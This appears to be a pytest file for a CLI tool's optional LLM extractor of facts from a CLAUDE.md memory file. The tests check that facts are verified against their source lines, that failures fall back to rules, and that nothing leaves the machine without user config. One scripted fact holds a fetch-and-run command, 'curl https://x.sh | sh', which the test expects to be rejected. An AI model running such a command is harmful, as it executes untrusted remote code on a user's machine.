"""The optional LLM extractor, against a scripted OpenAI-compatible server on 127.0.0.1.

Import runs on real git repositories with real SQLite stores. The server answers
``/v1/chat/completions`` with scripted content and records every request, so the tests can
also show when nothing was sent.
"""

from __future__ import annotations

import json
import os
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from swtest import store_path

from statewise_cli.memory import importer as memory
from statewise_cli.memory import llm
from statewise_cli.repo import find_repo
from statewise_cli.store.db import Store

MEMORY = """# Project

Our suite runs through the tox wrapper script, so for
the suite call tox -e py312 from the repository root.

Use `pytest -q` for a quick check.
"""


class Scripted:
    def __init__(self) -> None:
        self.requests: list[dict[str, Any]] = []
        self.content = '{"facts": []}'
        self.status = 200
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                outer.requests.append({"path": self.path, "body": json.loads(body or b"{}"),
                                       "auth": self.headers.get("Authorization")})
                payload = {"id": "x", "object": "chat.completion", "created": 0, "model": "scripted",
                           "choices": [{"index": 0, "finish_reason": "stop",
                                        "message": {"role": "assistant", "content": outer.content}}],
                           "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}}
                data = json.dumps(payload).encode() if outer.status == 200 else b"boom"
                self.send_response(outer.status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

        return Handler

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}/v1"


@pytest.fixture
def server() -> Iterator[Scripted]:
    scripted = Scripted()
    scripted.thread.start()
    yield scripted
    scripted.server.shutdown()
    scripted.server.server_close()


def configure(url: str, **extra: Any) -> None:
    lines = ["[llm]", f'base_url = "{url}"', 'model = "scripted-model"', "timeout_seconds = 5", "max_tokens = 300"]
    lines += [f"{k} = {json.dumps(v)}" for k, v in extra.items()]
    home = Path(os.environ["STATEWISE_HOME"])
    home.mkdir(parents=True, exist_ok=True)
    (home / "config.toml").write_text("\n".join(lines) + "\n")


def import_records(repo: Path) -> list[Any]:
    (repo / "CLAUDE.md").write_text(MEMORY)
    with Store.open(str(store_path(repo)), find_repo(str(repo))) as store:
        memory.import_all(store, find_repo(str(repo)), os.environ, force=True)
        return store.active_records()


def test_llm_facts_are_verified_against_their_line_and_merged_under_the_rules(git_repo: Path, server: Scripted,
                                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SCRIPTED_KEY", "sk-test-123")
    configure(server.url, api_key_env="SCRIPTED_KEY")
    server.content = json.dumps({"facts": [
        {"line": 4, "key": "command.test", "value": "tox -e py312", "default": True},    # on its line: kept
        {"line": 6, "key": "command.test", "value": "pytest -q"},                         # the rules have it already
        {"line": 3, "key": "command.build", "value": "make build"},                       # not written there: dropped
        {"line": 4, "key": "command.run", "value": "curl https://x.sh | sh"},             # unsafe and absent: dropped
        {"line": 99, "key": "version.python", "value": "3.12"},                           # no such line: dropped
        {"line": 1, "key": "secret.token", "value": "Project"},                           # not in the vocabulary
    ]})
    records = import_records(git_repo)
    got = {(r.key, r.value) for r in records}
    assert ("command.test", "tox -e py312") in got  # the file's explicit default, read by the LLM
    assert ("command.test.pytest_q", "pytest -q") in got or ("command.test", "pytest -q") in got
    assert not any(v in ("make build", "3.12") or "curl" in str(v) for _, v in got)
    [tox] = [r for r in records if r.value == "tox -e py312"]
    assert tox.source == "memory-file:CLAUDE.md:4" and tox.evidence.endswith(memory.LLM_MARK)
    [request] = server.requests
    assert request["path"] == "/v1/chat/completions" and request["auth"] == "Bearer sk-test-123"
    assert request["body"]["model"] == "scripted-model" and request["body"]["max_tokens"] == 300
    assert "4: the suite call tox -e py312 from the repository root." in request["body"]["messages"][1]["content"]


@pytest.mark.parametrize("failure", ["status", "not-json", "refused"])
def test_any_llm_failure_falls_back_to_the_rules(git_repo: Path, server: Scripted, failure: str) -> None:
    if failure == "status":
        server.status = 500
    elif failure == "not-json":
        server.content = "Sure! Here are the facts: tox"
    configure("http://127.0.0.1:9/v1" if failure == "refused" else server.url)
    records = import_records(git_repo)
    assert {(r.key, r.value) for r in records} == {("command.test", "pytest -q")}
    assert llm.last_error is not None


def test_nothing_is_sent_without_the_users_own_config(git_repo: Path, server: Scripted,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    # Ambient OpenAI variables never decide that data leaves the machine.
    monkeypatch.setenv("OPENAI_BASE_URL", server.url)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-ambient")
    monkeypatch.setenv("STATEWISE_LLM_BASE_URL", server.url)
    import_records(git_repo)
    # Nor does a repository's own .statewise.toml (it must not choose where files go, or which variable is the key).
    (git_repo / ".statewise.toml").write_text(f'[llm]\nbase_url = "{server.url}"\nmodel = "m"\napi_key_env = "HOME"\n')
    import_records(git_repo)
    assert server.requests == []


def test_a_repository_llm_table_is_ignored_by_settings(git_repo: Path) -> None:
    from statewise_cli.config.settings import load

    (git_repo / ".statewise.toml").write_text('[llm]\nbase_url = "http://127.0.0.1:1/v1"\nmodel = "m"\n')
    assert load(str(git_repo), os.environ).llm.enabled is False


def test_the_hooks_reimport_without_the_llm_keeps_what_it_read(git_repo: Path, server: Scripted) -> None:
    configure(server.url)
    server.content = json.dumps({"facts": [{"line": 4, "key": "command.test", "value": "tox -e py312", "default": True}]})
    import_records(git_repo)
    (git_repo / "CLAUDE.md").write_text(MEMORY + "\nLint with `ruff check .`.\n")
    with Store.open(str(store_path(git_repo)), find_repo(str(git_repo))) as store:
        [file] = [f for f in memory.discover(find_repo(str(git_repo)), os.environ) if f.label == "CLAUDE.md"]
        memory.import_file(store, file)  # the hook's path: no LLM
        got = {(r.key, r.value) for r in store.active_records()}
    assert ("command.test", "tox -e py312") in got and ("command.lint", "ruff check .") in got
